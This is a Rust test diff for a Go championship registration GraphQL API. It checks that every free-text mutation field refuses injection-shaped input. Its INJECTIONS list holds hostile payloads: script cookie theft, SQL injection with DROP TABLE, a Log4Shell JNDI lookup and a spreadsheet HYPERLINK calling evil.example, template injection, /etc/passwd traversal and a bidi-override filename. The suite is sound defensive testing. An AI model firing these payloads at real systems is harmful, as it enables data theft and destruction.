@@ -90,6 +90,172 @@ fn staff_mutations() -> Vec<(&'static str, String)> {
     ]
 }
 
+/// Every free-text argument of every mutation, with `$t` where the text goes.
+const FREE_TEXT_FIELDS: &[(&str, &str)] = &[
+    (
+        "registerPlayer.name",
+        r#"registerPlayer(input: { name: $t, sex: MALE, birthDate: "1990-01-01", residentId: "110101199001010011" }) { id }"#,
+    ),
+    (
+        "updatePlayer.name",
+        r#"updatePlayer(input: { id: "pl_x", name: $t }) { id }"#,
+    ),
+    (
+        "linkAccount.accountId",
+        r#"linkAccount(input: { playerId: "pl_x", platform: "yizhan", accountId: $t }) { id }"#,
+    ),
+    (
+        "createChampionship.name",
+        r#"createChampionship(input: { preset: "go-2025", name: $t }) { id }"#,
+    ),
+    (
+        "addBar.reason",
+        r#"addBar(game: GO, idNumber: "110101199001010011", reason: $t) { reason }"#,
+    ),
+    (
+        "registerPair.relationDocument",
+        r#"registerPair(input: { championshipId: "c", event: "parent-child-pairs", firstPlayerId: "a", secondPlayerId: "b", relation: PARENT_CHILD, relationDocument: $t }) { id }"#,
+    ),
+    (
+        "withdrawPair.reason",
+        r#"withdrawPair(pairId: "p", reason: $t) { id }"#,
+    ),
+    (
+        "verifyPairRelation.reason",
+        r#"verifyPairRelation(pairId: "p", verified: false, reason: $t) { id }"#,
+    ),
+    (
+        "publishPairsSeed.seed",
+        r#"publishPairsSeed(championshipId: "c", event: "men-pairs", seed: $t) { seed }"#,
+    ),
+    (
+        "enterFinalEvent.unit",
+        r#"enterFinalEvent(input: { championshipId: "c", event: "youth", playerId: "p", unit: $t }) { id }"#,
+    ),
+    (
+        "enterFinalEvent.certificateRef",
+        r#"enterFinalEvent(input: { championshipId: "c", event: "youth", playerId: "p", unit: "u", certificateRef: $t }) { id }"#,
+    ),
+    (
+        "decideFinalEntry.reason",
+        r#"decideFinalEntry(entryId: "e", approve: false, reason: $t) { id }"#,
+    ),
+    (
+        "registerCityTeam.city",
+        r#"registerCityTeam(championshipId: "c", city: $t, playerIds: []) { id }"#,
+    ),
+    (
+        "recordFee.paymentRef",
+        r#"recordFee(championshipId: "c", playerId: "p", settlement: PAID, paymentRef: $t) { status }"#,
+    ),
+    (
+        "recordFee.reason",
+        r#"recordFee(championshipId: "c", playerId: "p", settlement: WAIVED, reason: $t) { status }"#,
+    ),
+    (
+        "recordAttendance.reason",
+        r#"recordAttendance(championshipId: "c", playerId: "p", attendance: EXCUSED, reason: $t) { status }"#,
+    ),
+    (
+        "submitWildcard.source",
+        r#"submitWildcard(input: { championshipId: "c", event: "men-individual", playerId: "p", source: $t }) { id }"#,
+    ),
+    (
+        "decideWildcard.reason",
+        r#"decideWildcard(wildcardId: "w", approve: false, reason: $t) { id }"#,
+    ),
+    (
+        "fileNoticeReport.text",
+        r#"fileNoticeReport(championshipId: "c", playerId: "p", text: $t) { reportId }"#,
+    ),
+    (
+        "concludeNoticeReport.reason",
+        r#"concludeNoticeReport(input: { reportId: "r", uphold: false, reason: $t }) { state }"#,
+    ),
+    (
+        "concludeNoticeReport.overrideReason",
+        r#"concludeNoticeReport(input: { reportId: "r", uphold: true, reason: "r", overrideReason: $t }) { state }"#,
+    ),
+    (
+        "createFinalEvent.name",
+        r#"createFinalEvent(input: { championshipId: "c", eventCode: "men-individual", name: $t, entrants: [], reason: "r" }) { id }"#,
+    ),
+    (
+        "createFinalEvent.reason",
+        r#"createFinalEvent(input: { championshipId: "c", eventCode: "men-individual", entrants: [], reason: $t }) { id }"#,
+    ),
+    (
+        "recordResult.reason",
+        r#"recordResult(input: { eventId: "e", round: 1, board: 1, result: DRAW, reason: $t }) { number }"#,
+    ),
+    (
+        "withdrawEntrant.reason",
+        r#"withdrawEntrant(input: { eventId: "e", playerId: "p", reason: $t }) { id }"#,
+    ),
+    (
+        "disqualifyEntrant.reason",
+        r#"disqualifyEntrant(input: { eventId: "e", playerId: "p", reason: $t }) { id }"#,
+    ),
+    (
+        "fileAppeal.text",
+        r#"fileAppeal(input: { eventId: "e", round: 1, board: 1, playerId: "p", text: $t }) { id }"#,
+    ),
+    (
+        "decideAppeal.decision",
+        r#"decideAppeal(input: { eventId: "e", appealId: "a", upheld: false, decision: $t }) { id }"#,
+    ),
+    (
+        "freezeTeamStandings.reason",
+        r#"freezeTeamStandings(input: { championshipId: "c", teamEvent: "men-team", reason: $t }) { frozen }"#,
+    ),
+    (
+        "overrideTeamStandings.reason",
+        r#"overrideTeamStandings(input: { championshipId: "c", teamEvent: "men-team", reason: $t }) { frozen }"#,
+    ),
+    (
+        "approveAwards.reason",
+        r#"approveAwards(input: { championshipId: "c", reason: $t }) { championshipId }"#,
+    ),
+    (
+        "overrideAwards.reason",
+        r#"overrideAwards(input: { championshipId: "c", reason: $t }) { championshipId }"#,
+    ),
+    (
+        "recordDeduction.reason",
+        r#"recordDeduction(input: { championshipId: "c", event: "e", ranking: "r", awardee: "a", yuan: 1, reason: $t }) { yuan }"#,
+    ),
+    (
+        "recordDanHolding.reason",
+        r#"recordDanHolding(input: { championshipId: "c", playerId: "p", amateurDan: 5, reason: $t }) { amateurDan }"#,
+    ),
+];
+
+/// What an attacker puts into a text field: markup, script URLs, templates, SQL, spreadsheet
+/// formulas, path traversal, control and bidirectional-override characters.
+const INJECTIONS: &[&str] = &[
+    "<script>alert(document.cookie)</script>",
+    "' OR '1'='1' --",
+    "x'); DROP TABLE registration_players; --",
+    "${jndi:ldap://evil.example/a}",
+    "{{constructor.constructor('return process')()}}",
+    "=HYPERLINK(\"http://evil.example\",\"证书\")",
+    "../../../../etc/passwd",
+    "正常文字\u{202E}gnp.exe",
+];
+
+async fn player_count(app: &TestApp, org: &str) -> usize {
+    let (_, r) = post(
+        app,
+        Some(&format!("Bearer {org}")),
+        json!({ "query": "{ players(page: { size: 500 }) { players { id } } }" }),
+    )
+    .await;
+    r["data"]["players"]["players"]
+        .as_array()
+        .map(Vec::len)
+        .unwrap_or(usize::MAX)
+}
+
 /// Cases run and the ones not refused as they must be.
 #[derive(Default)]
 struct Tally {
@@ -319,6 +485,68 @@ async fn security_suite_every_case_is_refused_with_its_code_and_changes_nothing(
         )
         .await;
         t.expect("2 MiB body".into(), status.to_string(), "413");
+
+        // 5. Injection-shaped strings in every free-text field, as literals and as variables. Each
+        //    document is first sent with a harmless text: it must get past the guard (any other
+        //    outcome is fine), which proves the field exists and the refusal is the guard's.
+        let players_before = player_count(&app, &org).await;
+        for (field, document) in FREE_TEXT_FIELDS {
+            let query = format!("mutation($t: String!) {{ {document} }}");
+            let (_, benign) = post(
+                &app,
+                Some(&format!("Bearer {org}")),
+                json!({ "query": query, "variables": { "t": "核查说明" } }),
+            )
+            .await;
+            let benign_code = code(&benign);
+            if benign["errors"][0]["extensions"]["reason"] == "INJECTION_SHAPED"
+                || benign_code == "GRAPHQL_VALIDATION_FAILED"
+            {
+                t.failures.push(format!(
+                    "{field}: the harmless document was refused: {benign}"
+                ));
+            }
+            for payload in INJECTIONS {
+                let (_, r) = post(
+                    &app,
+                    Some(&format!("Bearer {org}")),
+                    json!({ "query": query, "variables": { "t": payload } }),
+                )
+                .await;
+                let reason = r["errors"][0]["extensions"]["reason"]
+                    .as_str()
+                    .unwrap_or("");
+                t.expect(
+                    format!("{field} ← {payload:?}"),
+                    format!("{}/{reason}", code(&r)),
+                    "INVALID_ARGUMENT/INJECTION_SHAPED",
+                );
+            }
+            // The same as a literal in the document itself.
+            let literal = document.replace(
+                "$t",
+                &serde_json::to_string(INJECTIONS[0]).unwrap_or_default(),
+            );
+            let (_, r) = post(
+                &app,
+                Some(&format!("Bearer {org}")),
+                json!({ "query": format!("mutation {{ {literal} }}") }),
+            )
+            .await;
+            let reason = r["errors"][0]["extensions"]["reason"]
+                .as_str()
+                .unwrap_or("");
+            t.expect(
+                format!("{field} ← literal"),
+                format!("{}/{reason}", code(&r)),
+                "INVALID_ARGUMENT/INJECTION_SHAPED",
+            );
+        }
+        assert_eq!(
+            player_count(&app, &org).await,
+            players_before,
+            "{backend}: a refused registration left a player behind"
+        );
 
         // Nothing changed: no final sections, no award decisions, no frozen standings.
         let (_, state) = post(
